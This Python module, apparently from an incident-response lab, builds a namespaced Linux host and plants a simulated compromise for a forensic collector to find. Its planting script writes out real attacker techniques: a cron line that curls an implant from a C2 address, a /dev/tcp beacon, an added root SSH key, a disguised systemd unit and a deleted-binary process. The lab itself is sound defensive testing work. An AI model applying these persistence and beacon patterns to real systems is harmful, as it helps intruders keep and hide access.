"""The lab's compromised host: the scenario's own small Linux system in its own namespaces.

The lab plays the SSM agent on the responder's machine, so without this the collector would
pack the responder's own files. Here every Linux command of the lab runs inside fresh mount,
PID, network, UTS and IPC namespaces (``unshare`` as root) whose root file system is a tmpfs:
``/usr`` is the machine's ``/usr`` under a throw-away overlay (so a scenario can replace a
packaged binary without touching the machine), ``/etc``, ``/root``, ``/home``, ``/tmp`` and
``/var`` are the scenario's, with a package database reduced to a few packages. The
scenario's compromise is planted there (a beaconing process whose binary is deleted, cron and
systemd persistence, an added ``authorized_keys`` line, shell history, a listening socket),
then the collector runs exactly as the SSM agent would start it. When the collector exits,
PID 1 of the namespace exits, the kernel ends every process in it and the tmpfs goes away:
nothing outlives the command.

Network: the namespace has only its loopback. Its addresses include the scenario's C2
address, whose "server" is a socket this process opens inside the namespace, and the
emulator's port, relayed by this process to the emulator on the machine's 127.0.0.1 — so the
collector's own upload (``curl`` with its headers) reaches the emulator. No traffic leaves
127.0.0.0/8 or the namespace.
"""

from __future__ import annotations

import contextlib
import ctypes
import ipaddress
import os
import re
import select
import shutil
import socket
import subprocess
import threading
import time
from collections.abc import Mapping
from dataclasses import dataclass, field
from functools import lru_cache
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

CLONE_NEWNET = 0x40000000
SYSTEM_PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
READY_TIMEOUT = 30.0
# Packages whose files the scenario host's package database keeps (those present are used).
DPKG_SUBSET = ("base-files", "bash", "coreutils", "dash", "findutils", "grep", "gzip", "sed",
               "tar", "procps", "util-linux", "mawk", "diffutils", "iproute2", "curl",
               "openssh-client", "passwd", "login", "libc-bin", "e2fsprogs", "libcap2-bin",
               "hostname", "ncurses-bin", "debianutils")


@dataclass(frozen=True)
class HostScenario:
    """What the scenario's host is and what the attacker left on it.

    ``c2`` is where the beacon connects (an address inside the namespace); ``beacon`` the
    process name; empty fields plant nothing, so ``HostScenario("db-1")`` is a clean host.
    """

    hostname: str
    c2: tuple[str, int] | None = None
    beacon: str = ""
    replaced_binary: str = ""  # a packaged file the attacker modified (dpkg -V shows it)
    backdoor_port: int = 0
    attacker_key_comment: str = ""
    history: tuple[str, ...] = ()
    users: tuple[str, ...] = ("ubuntu",)
    description: str = "a clean host"

    @property
    def compromised(self) -> bool:
        return bool(self.beacon)


@dataclass
class HostRun:
    """The outcome of one command on the sandboxed host."""

    status: str
    code: int
    planted: dict[str, str] = field(default_factory=dict)
    notes: list[str] = field(default_factory=list)


def namespaces_unavailable() -> str | None:
    """Why the sandboxed host cannot run here, or None when it can."""
    if not hasattr(os, "geteuid") or os.geteuid() != 0:
        return "the lab's host sandbox needs root (mount, PID and network namespaces)"
    if shutil.which("unshare") is None or shutil.which("chroot") is None:
        return "the lab's host sandbox needs util-linux unshare and chroot"
    try:
        probe = subprocess.run(
            ["unshare", "--mount", "--pid", "--net", "--uts", "--ipc", "--fork",
             "--propagation", "private", "/bin/sh", "-c", "echo ok"],
            capture_output=True, text=True, timeout=20, check=False)
    except (OSError, subprocess.TimeoutExpired) as exc:
        return f"unshare could not run ({exc})"
    if probe.returncode != 0 or probe.stdout.strip() != "ok":
        return f"unshare refused to create namespaces: {probe.stderr.strip()[:200]}"
    return None


def _dpkg_subset(target: Path, wanted: tuple[str, ...] = DPKG_SUBSET) -> list[str]:
    """A package database holding only ``wanted`` (of those installed), for a fast dpkg -V."""
    status = Path("/var/lib/dpkg/status")
    info = Path("/var/lib/dpkg/info")
    if not status.is_file():
        return []
    kept: list[str] = []
    stanzas = []
    for stanza in status.read_text(encoding="utf-8", errors="replace").split("\n\n"):
        m = re.search(r"^Package: (\S+)$", stanza, re.M)
        if m and m.group(1) in wanted and "Status: install ok installed" in stanza:
            stanzas.append(stanza.strip("\n"))
            kept.append(m.group(1))
    (target / "info").mkdir(parents=True)
    for d in ("updates", "triggers", "alternatives"):
        (target / d).mkdir()
    (target / "status").write_text("\n\n".join(stanzas) + "\n\n", encoding="utf-8")
    etc: set[str] = set()
    for name in kept:
        for f in info.glob(f"{name}*"):
            if re.fullmatch(rf"{re.escape(name)}(:[a-z0-9]+)?\.(list|md5sums|conffiles)", f.name):
                shutil.copy2(f, target / "info" / f.name)
                if f.name.endswith(".list"):
                    etc.update(line for line in f.read_text(errors="replace").splitlines()
                               if line.startswith("/etc/") and "\t" not in line)
    # The packages' own /etc files (distribution defaults), so the host verifies clean.
    (target.parent / "etc_from_host.txt").write_text("".join(f"{p}\n" for p in sorted(etc)))
    return kept


def _shell_quote(value: str) -> str:
    return "'" + value.replace("'", "'\"'\"'") + "'"


def setup_script() -> str:
    """Runs as PID 1 of the new namespaces: builds the root, syncs with the agent, chroots."""
    return r"""set -u
S=$1; R=$S/root; W=$S/ovl
say() { printf 'lab-host: %s\n' "$*" >&2; }
mkdir -p "$R" "$W"
mount -t tmpfs -o mode=755,size=512m ircli-lab-host "$R" || { say "tmpfs root failed"; exit 90; }
mount -t tmpfs -o mode=700 ircli-lab-ovl "$W" || exit 90
mkdir -p "$W/upper" "$W/work"
for d in usr etc proc sys dev run tmp var root home boot opt srv mnt media; do
  mkdir -p "$R/$d"; done
chmod 1777 "$R/tmp"; chmod 700 "$R/root"
if mount -t overlay ircli-lab-usr -o "lowerdir=/usr,upperdir=$W/upper,workdir=$W/work" \
    "$R/usr"; then
  echo overlay > "$S/usr_mode"
else
  mount --bind /usr "$R/usr" && mount -o remount,bind,ro "$R/usr"; echo readonly > "$S/usr_mode"
fi
for l in bin sbin lib lib32 lib64 libx32; do
  if [ -L "/$l" ]; then ln -s "$(readlink "/$l")" "$R/$l"
  elif [ -d "/$l" ]; then mkdir -p "$R/$l"; mount --bind "/$l" "$R/$l"
    mount -o remount,bind,ro "$R/$l"; fi
done
mount -t proc proc "$R/proc"
mount -t sysfs -o ro sysfs "$R/sys" 2>/dev/null || true
mount -t tmpfs -o mode=755 ircli-lab-dev "$R/dev"
for n in null zero full random urandom tty; do
  : > "$R/dev/$n"; mount --bind "/dev/$n" "$R/dev/$n"; done
mkdir -p "$R/dev/shm" "$R/dev/pts"; mount -t tmpfs -o mode=1777 shm "$R/dev/shm"
mount -t tmpfs -o mode=755 run "$R/run"
ln -s /proc/self/fd "$R/dev/fd"
for e in alternatives ld.so.cache ld.so.conf ld.so.conf.d localtime os-release debian_version \
    nsswitch.conf login.defs; do
  { [ -e "/etc/$e" ] || [ -L "/etc/$e" ]; } && cp -a "/etc/$e" "$R/etc/"; done
[ -f "$S/etc_from_host.txt" ] && while IFS= read -r p; do
  [ -f "$p" ] && [ ! -L "$p" ] && mkdir -p "$R${p%/*}" && cp -a "$p" "$R$p"
done < "$S/etc_from_host.txt"
cp -a "$S/etc/." "$R/etc/"
mkdir -p "$R/var/lib/misc" "$R/var/log" "$R/var/tmp" "$R/var/spool/cron/crontabs" "$R/var/cache" \
  "$R/var/backups" "$R/var/local" "$R/run/lock"; chmod 1777 "$R/var/tmp"
ln -s /run "$R/var/run"; ln -s /run/lock "$R/var/lock"
[ -d "$S/dpkg" ] && cp -a "$S/dpkg" "$R/var/lib/dpkg"
mkdir -p "$R/$S_WORK"; cp "$S/_script.sh" "$R/$S_WORK/_script.sh"
hostname "$S_HOSTNAME"
ip link set lo up
for a in $S_ADDRS; do ip addr add "$a/32" dev lo; done
echo ready > "$S/ready.fifo"
read -r go < "$S/go.fifo" || go=stop
[ "$go" = go ] || { say "agent did not start the relay"; exit 91; }
cat > "$R/run/lab-init" <<'IRCLI_INIT'
# PID 1 of the ircli lab host: plant the scenario, then run the SSM command like the agent.
/bin/sh /run/.plant.sh 6>/run/.plant.log </dev/null >/dev/null 2>&1
cat /run/.plant.log >&6; rm -f /run/.plant.sh /run/.plant.log; exec 6>&-
cd "$S_WORK" || exit 92
set -f; set --; while IFS= read -r kv; do set -- "$@" "$kv"; done < /run/.env; rm -f /run/.env
/usr/bin/env -i "$@" /bin/sh _script.sh </dev/null 7>&-
rc=$?
ls -d /dev/shm/ircli-lr.* /tmp/ircli-lr.* /tmp/tmp.* 2>/dev/null | sed "s/^/leftover\t/" >&7
exit $rc
IRCLI_INIT
exec chroot "$R" /bin/sh /run/lab-init 6>>"$S/plant.log" 7>>"$S/leftovers.txt"
"""


def plant_script(host: HostScenario) -> str:
    """Shell run inside the host before the collector: the scenario's compromise."""
    lines = [r"""report() { printf '%s\t%s\n' "$1" "$2" >&6; }
umask 022"""]
    for user in host.users:
        lines.append(f"mkdir -p /home/{user}/.ssh && chmod 700 /home/{user}/.ssh")
    lines.append(r"""printf '%s\n' 'sudo apt-get update' 'sudo systemctl status nginx' \
  'tail -f /var/log/nginx/access.log' > /home/ubuntu/.bash_history
key() { ssh-keygen -q -t ed25519 -N "$1" -C "$2" -f "$3" >/dev/null 2>&1 \
  && report "$4" "$(ssh-keygen -l -f "$3.pub")"; }
key 'lab passphrase' ubuntu@deploy /home/ubuntu/.ssh/id_ed25519 protected_key
mkdir -p /root/.ssh && chmod 700 /root/.ssh
key '' root@web /root/.ssh/id_ed25519 nopass_key
cat /root/.ssh/id_ed25519.pub > /root/.ssh/authorized_keys
chown -R 1000:1000 /home/ubuntu""")
    if not host.compromised:
        lines.append("report clean yes")
        return "\n".join(lines) + "\n"
    c2_ip, c2_port = host.c2 or ("127.0.0.1", 443)
    b = host.beacon
    history = "\n".join(host.history)
    lines.append(f"""# What the logs saw: the attacker logging in with the key it added.
printf '%s\\n' "Dec  1 08:41:07 {host.hostname} sshd[812]: Accepted publickey for root from \
{c2_ip} port 50122 ssh2" "Dec  1 08:41:07 {host.hostname} sshd[812]: pam_unix(sshd:session): \
session opened for user root(uid=0)" > /var/log/auth.log
# The attacker's key, added for root.
key '' {_shell_quote(host.attacker_key_comment)} /run/.ak attacker_key
cat /run/.ak.pub >> /root/.ssh/authorized_keys
rm -f /run/.ak /run/.ak.pub
cat > /root/.bash_history <<'IRCLI_HIST'
{history}
IRCLI_HIST
# Persistence: a cron entry and a systemd unit that bring the implant back.
mkdir -p /usr/lib/.{b} /etc/systemd/system/multi-user.target.wants
printf '%s\\n' 'c2={c2_ip}:{c2_port}' 'sleep=30' > /usr/lib/.{b}/config \
  && report hidden_dir /usr/lib/.{b}
printf '%s\\n' '*/5 * * * * root /usr/lib/.{b}/{b} >/dev/null 2>&1 || \
curl -fsS http://{c2_ip}/{b} -o /tmp/{b}' | tr -d '\\n' > /etc/cron.d/{b}; echo >> /etc/cron.d/{b}
report cron /etc/cron.d/{b}
printf '%s\\n' '*/10 * * * * /tmp/{b}' > /var/spool/cron/crontabs/root
cat > /etc/systemd/system/{b}.service <<'IRCLI_UNIT'
[Unit]
Description=Kernel worker daemon
[Service]
ExecStart=/usr/lib/.{b}/{b}
Restart=always
[Install]
WantedBy=multi-user.target
IRCLI_UNIT
ln -s /etc/systemd/system/{b}.service /etc/systemd/system/multi-user.target.wants/{b}.service
report systemd /etc/systemd/system/{b}.service
if chattr +i /etc/cron.d/{b} 2>/run/.chattr.err; then report immutable /etc/cron.d/{b}
else report immutable_refused "$(tr '\\n' ' ' < /run/.chattr.err)"; fi
rm -f /run/.chattr.err
# A leftover of an account the attacker removed, and a binary given raw-socket powers.
mkdir -p /opt/.cache && : > /opt/.cache/{b}.log && chown 4242:4242 /opt/.cache/{b}.log \
  && report unknown_owner /opt/.cache/{b}.log
mkdir -p /usr/local/bin && cp /bin/bash /usr/local/bin/{b}-net \
  && setcap cap_net_raw,cap_net_admin+ep /usr/local/bin/{b}-net 2>/dev/null \
  && report capability /usr/local/bin/{b}-net
# The implant: a copy of bash in /tmp, renamed, connected to the C2, then deleted from disk.
cp /bin/bash /tmp/{b} && chmod 755 /tmp/{b} && cp /bin/bash /usr/lib/.{b}/{b}
report beacon_sha256 "$(sha256sum /tmp/{b} | cut -c1-64)"
cat > /run/.beacon <<'IRCLI_BEACON'
exec 3<>/dev/tcp/{c2_ip}/{c2_port} || exit 1
while :; do printf 'beacon\\n' >&3; read -r -t 30 x <&3 || [ $? -gt 128 ] || exit 0; done
IRCLI_BEACON
code=$(cat /run/.beacon); rm -f /run/.beacon
/bin/bash -c 'exec -a "$0" "$1" -c "$2"' {b} /tmp/{b} "$code" </dev/null >/dev/null 2>&1 &
report beacon_pid $!
i=0; while [ $i -lt 50 ] && ! grep -q ' 01 ' /proc/net/tcp 2>/dev/null; do
  sleep 0.1; i=$((i+1)); done
rm -f /tmp/{b} && report deleted_exe /tmp/{b}""")
    if host.backdoor_port:
        lines.append(f"""/usr/bin/python3 -c 'import socket,time
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", {host.backdoor_port})); s.listen(1); time.sleep(3600)' \
  </dev/null >/dev/null 2>&1 &
report listener {host.backdoor_port}""")
    if host.replaced_binary:
        path = host.replaced_binary
        lines.append(f"""if [ -f {path} ]; then cp {path} /run/.rb \\
  && printf 'ircli-lab-implant' >> /run/.rb && cat /run/.rb > {path} \\
  && report replaced_binary {path}; rm -f /run/.rb; fi""")
    lines.append("i=0; while [ $i -lt 30 ] && ! grep -q ' 0A ' /proc/net/tcp 2>/dev/null; do "
                 "sleep 0.1; i=$((i+1)); done")
    return "\n".join(lines) + "\n"


def scenario_etc(host: HostScenario) -> dict[str, str]:
    """The host's own /etc files (the rest of /etc comes from the machine: linker, alternatives)."""
    users = "".join(f"{u}:x:{1000 + i}:{1000 + i}:{u}:/home/{u}:/bin/bash\n"
                    for i, u in enumerate(host.users))
    groups = "".join(f"{u}:x:{1000 + i}:\n" for i, u in enumerate(host.users))
    return {
        "hostname": f"{host.hostname}\n",
        "hosts": f"127.0.0.1 localhost\n10.20.1.10 {host.hostname}\n",
        "resolv.conf": "nameserver 169.254.169.253\n",
        "machine-id": "0c1ab0c1ab0c1ab0c1ab0c1ab0c1ab00\n",
        "passwd": "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/"
                  "nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
                  "sshd:x:100:65534::/run/sshd:/usr/sbin/nologin\n" + users,
        "group": "root:x:0:\ndaemon:x:1:\nwww-data:x:33:\nsudo:x:27:ubuntu\n" + groups,
        "shadow": "root:*:19700:0:99999:7:::\n" + "".join(
            f"{u}:!:19700:0:99999:7:::\n" for u in host.users),
        "crontab": "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
        "ssh/sshd_config": "PermitRootLogin prohibit-password\nPasswordAuthentication no\n",
        "cron.d/.placeholder": "",
    }


class SandboxedHost:
    """Runs one SSM command's script on the scenario's host (see the module docstring)."""

    def __init__(self, scenario: HostScenario) -> None:
        self.scenario = scenario
        self.last_run: HostRun | None = None

    def adjust(self, parameters: Mapping[str, Any]) -> dict[str, Any]:
        return dict(parameters)

    def execute(self, script: str, env: Mapping[str, str], stage: Path, timeout: int
                ) -> tuple[str, int, list[str]]:
        """The agent substitute's entry point (``ircli.liveresponse.agent.Host``)."""
        run = self.run(script, env, stage, stage / "stdout", stage / "stderr", timeout)
        self.last_run = run
        planted = ", ".join(sorted(run.planted)) or "nothing"
        return run.status, run.code, [f"planted: {planted}", *run.notes]

    @property
    def label(self) -> str:
        return (f"lab host {self.scenario.hostname} ({self.scenario.description}) in its own "
                "mount, PID and network namespaces")

    def _stage(self, stage: Path, script: str) -> None:
        (stage / "etc").mkdir(parents=True)
        for name, text in scenario_etc(self.scenario).items():
            path = stage / "etc" / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8")
        os.chmod(stage / "etc" / "shadow", 0o640)
        (stage / "etc" / "cron.d" / ".placeholder").unlink()
        _dpkg_subset(stage / "dpkg")
        (stage / "_script.sh").write_text(script, encoding="utf-8")
        (stage / "setup.sh").write_text(setup_script(), encoding="utf-8")
        (stage / "plant.log").write_text("", encoding="utf-8")
        (stage / "leftovers.txt").write_text("", encoding="utf-8")
        os.mkfifo(stage / "ready.fifo", 0o600)
        os.mkfifo(stage / "go.fifo", 0o600)

    def run(self, script: str, env: Mapping[str, str], stage: Path, stdout: Path,
            stderr: Path, timeout: int) -> HostRun:
        """Build the host in ``stage``, plant, run ``script`` with ``env``; bounded by timeout."""
        work = f"/var/lib/amazon/ssm/{self.scenario.hostname}/document/orchestration/cmd/run"
        self._stage(stage, script)
        env_text = "".join(f"{k}={v}\n" for k, v in env.items() if "\n" not in k + v)
        ports = _relay_ports(env)
        addrs = [a for a in ([self.scenario.c2[0]] if self.scenario.c2 else [])
                 if not ipaddress.ip_address(a).is_loopback]
        child_env = {"PATH": SYSTEM_PATH, "LANG": "C", "S_WORK": work,
                     "S_HOSTNAME": self.scenario.hostname, "S_ADDRS": " ".join(addrs)}
        relay = _Relay()
        started = time.monotonic()
        ready_fd = os.open(stage / "ready.fifo", os.O_RDONLY | os.O_NONBLOCK)
        with open(stdout, "wb") as out, open(stderr, "wb") as err:
            proc = subprocess.Popen(
                ["unshare", "--mount", "--pid", "--net", "--uts", "--ipc", "--fork",
                 "--kill-child", "--propagation", "private", "/bin/sh", str(stage / "setup.sh"),
                 str(stage)],
                stdin=subprocess.DEVNULL, stdout=out, stderr=err, env=child_env)
        # unshare stays in the caller's process group (``lab down`` signals that group) and
        # --kill-child ends the namespace's PID 1, hence every process in it, when it dies.
        ready = ""
        try:
            ready = _read_line(ready_fd, READY_TIMEOUT, proc)
            go = b"stop\n"
            if ready == "ready":
                # Hand the planting script and the command's environment over through files
                # only the namespace sees (never through PID 1's environment).
                _write_into(proc.pid, stage / "root", plant_script(self.scenario), env_text)
                relay.open(proc.pid, ports, self.scenario.c2)
                go = b"go\n"
            _write_fifo(stage / "go.fifo", go, proc)
            left = max(1.0, timeout - (time.monotonic() - started))
            try:
                code = proc.wait(timeout=left)
                status = "Success" if code == 0 else "Failed"
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait()
                status, code = "TimedOut", -1
        finally:
            relay.close()
            os.close(ready_fd)
            if proc.poll() is None:
                proc.kill()
                proc.wait()
        run = HostRun(status, code)
        for line in (stage / "plant.log").read_text(errors="replace").splitlines():
            key, _, value = line.partition("\t")
            run.planted[key] = value
        usr_mode = stage / "usr_mode"
        if usr_mode.exists() and usr_mode.read_text().strip() != "overlay":
            run.notes.append("/usr could not be overlaid: the replaced binary was not planted")
        leftovers = (stage / "leftovers.txt").read_text(errors="replace").split()
        run.notes += [f"left in the host: {p}" for p in leftovers if p != "leftover"]
        if not ready:
            run.notes.append("the host did not come up: " +
                             stderr.read_text(errors="replace")[-300:].strip())
        return run


def _write_into(pid: int, root: Path, plant: str, env_text: str) -> None:
    """Write files into the namespace's tmpfs root through its mount namespace (/proc/PID/root)."""
    base = Path(f"/proc/{pid}/root") / str(root).lstrip("/") / "run"
    for name, text in ((".plant.sh", plant), (".env", env_text)):
        path = base / name
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
        with os.fdopen(fd, "w", encoding="utf-8") as f:
            f.write(text)


def _read_line(fd: int, timeout: float, proc: subprocess.Popen[bytes]) -> str:
    """One line from the setup's FIFO, or "" when it exits or the time is up."""
    deadline = time.monotonic() + timeout
    data = b""
    while b"\n" not in data and time.monotonic() < deadline and proc.poll() is None:
        ready, _, _ = select.select([fd], [], [], 0.2)
        if ready:
            data += os.read(fd, 64)  # b"" while no writer has opened the FIFO yet
    return data.decode(errors="replace").strip()


def _write_fifo(path: Path, data: bytes, proc: subprocess.Popen[bytes]) -> None:
    """Write to the setup's FIFO once it opens it for reading (it may have died instead)."""
    deadline = time.monotonic() + READY_TIMEOUT
    while time.monotonic() < deadline and proc.poll() is None:
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        except OSError:  # ENXIO: no reader yet
            select.select([], [], [], 0.05)
            continue
        try:
            os.write(fd, data)
        finally:
            os.close(fd)
        return


def _relay_ports(env: Mapping[str, str]) -> list[int]:
    """Loopback ports the command must reach (the upload URL's), never anything else."""
    ports = []
    for value in env.values():
        if not value.startswith(("http://", "https://")):
            continue
        parts = urlsplit(value)
        host = parts.hostname or ""
        with contextlib.suppress(ValueError):
            if host == "localhost" or ipaddress.ip_address(host).is_loopback:
                ports.append(parts.port or (443 if parts.scheme == "https" else 80))
    return ports


_libc = ctypes.CDLL(None, use_errno=True)


def _listen_in_netns(pid: int, addr: str, port: int) -> socket.socket:
    """A listening socket inside PID's network namespace (setns in a throw-away thread)."""
    box: dict[str, object] = {}

    def work() -> None:
        try:
            fd = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
            try:
                if _libc.setns(fd, CLONE_NEWNET) != 0:
                    err = ctypes.get_errno()
                    raise OSError(err, os.strerror(err))
            finally:
                os.close(fd)
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            sock.bind((addr, port))
            sock.listen(16)
            sock.settimeout(0.2)
            box["sock"] = sock
        except OSError as exc:
            box["error"] = exc

    thread = threading.Thread(target=work, name="ircli-netns")
    thread.start()
    thread.join()
    if "error" in box:
        raise box["error"]  # type: ignore[misc]
    sock = box["sock"]
    assert isinstance(sock, socket.socket)
    return sock


class _Relay:
    """Accept loops on sockets inside the namespace: the emulator's port is relayed to the
    machine's loopback; the C2 port accepts and holds (a remote server the host talks to)."""

    def __init__(self) -> None:
        self._stop = threading.Event()
        self._threads: list[threading.Thread] = []
        self._socks: list[socket.socket] = []

    def open(self, pid: int, ports: list[int], c2: tuple[str, int] | None) -> None:
        for port in ports:
            sock = _listen_in_netns(pid, "127.0.0.1", port)
            self._spawn(sock, lambda conn, p=port: self._pipe(conn, p))
        if c2 is not None:
            sock = _listen_in_netns(pid, c2[0], c2[1])
            self._spawn(sock, self._hold)

    def _spawn(self, sock: socket.socket, handle: object) -> None:
        self._socks.append(sock)
        thread = threading.Thread(target=self._accept, args=(sock, handle), daemon=True,
                                  name="ircli-relay")
        thread.start()
        self._threads.append(thread)

    def _accept(self, sock: socket.socket, handle: object) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            conn.settimeout(None)
            self._socks.append(conn)
            thread = threading.Thread(target=handle, args=(conn,), daemon=True)  # type: ignore[arg-type]
            thread.start()
            self._threads.append(thread)

    def _hold(self, conn: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while not self._stop.is_set() and conn.recv(4096):
                pass

    def _pipe(self, conn: socket.socket, port: int) -> None:
        try:
            upstream = socket.create_connection(("127.0.0.1", port), timeout=10)
        except OSError:
            conn.close()
            return
        upstream.settimeout(None)
        self._socks.append(upstream)

        def copy(src: socket.socket, dst: socket.socket) -> None:
            with contextlib.suppress(OSError):
                while chunk := src.recv(65536):
                    dst.sendall(chunk)
            with contextlib.suppress(OSError):
                dst.shutdown(socket.SHUT_WR)

        back = threading.Thread(target=copy, args=(upstream, conn), daemon=True)
        back.start()
        copy(conn, upstream)
        back.join(timeout=30)

    def close(self) -> None:
        self._stop.set()
        for sock in self._socks:
            with contextlib.suppress(OSError):
                sock.shutdown(socket.SHUT_RDWR)
            with contextlib.suppress(OSError):
                sock.close()
        for thread in self._threads:
            thread.join(timeout=5)


BOUNDED_SECTIONS = "system,processes,sockets,network_config,sessions,kernel,persistence"
BOUNDED_MB = 20


class BoundedLocalHost:
    """The fallback where namespaces are unavailable: the collector runs on THIS machine, said
    loudly, with fewer sections (no file system, temp files, logs or /etc) and a small cap."""

    def __init__(self, scenario: HostScenario, reason: str) -> None:
        self.scenario = scenario
        self.reason = reason

    @property
    def label(self) -> str:
        return (f"NOT a lab host: {self.reason}, so this collects THIS machine, bounded to "
                f"{BOUNDED_SECTIONS.replace(',', ', ')} and {BOUNDED_MB} MB")

    def adjust(self, parameters: Mapping[str, Any]) -> dict[str, Any]:
        out = dict(parameters)
        out["Sections"] = [BOUNDED_SECTIONS]
        total = str((out.get("MaxTotalMB") or [str(BOUNDED_MB)])[0])
        out["MaxTotalMB"] = [str(min(int(total), BOUNDED_MB)) if total.isdigit()
                             else str(BOUNDED_MB)]
        return out

    def execute(self, script: str, env: Mapping[str, str], stage: Path, timeout: int
                ) -> tuple[str, int, list[str]]:
        from ircli.liveresponse.agent import spawn

        tmp, home = stage / "tmp", stage / "home"
        tmp.mkdir()
        home.mkdir()
        (stage / "_script.sh").write_text(script, encoding="utf-8")
        status, code = spawn(["/bin/sh", str(stage / "_script.sh")], stage,
                             {**env, "TMPDIR": str(tmp), "HOME": str(home)}, timeout)
        return status, code, [f"the scenario's compromise ({self.scenario.description}) is "
                              "not planted on this machine"]


@lru_cache(maxsize=1)
def _unavailable() -> str | None:
    return namespaces_unavailable()


def lab_host(scenario: HostScenario) -> SandboxedHost | BoundedLocalHost:
    """The host the lab runs an instance's commands on: sandboxed, or the labelled fallback."""
    reason = _unavailable()
    return SandboxedHost(scenario) if reason is None else BoundedLocalHost(scenario, reason)
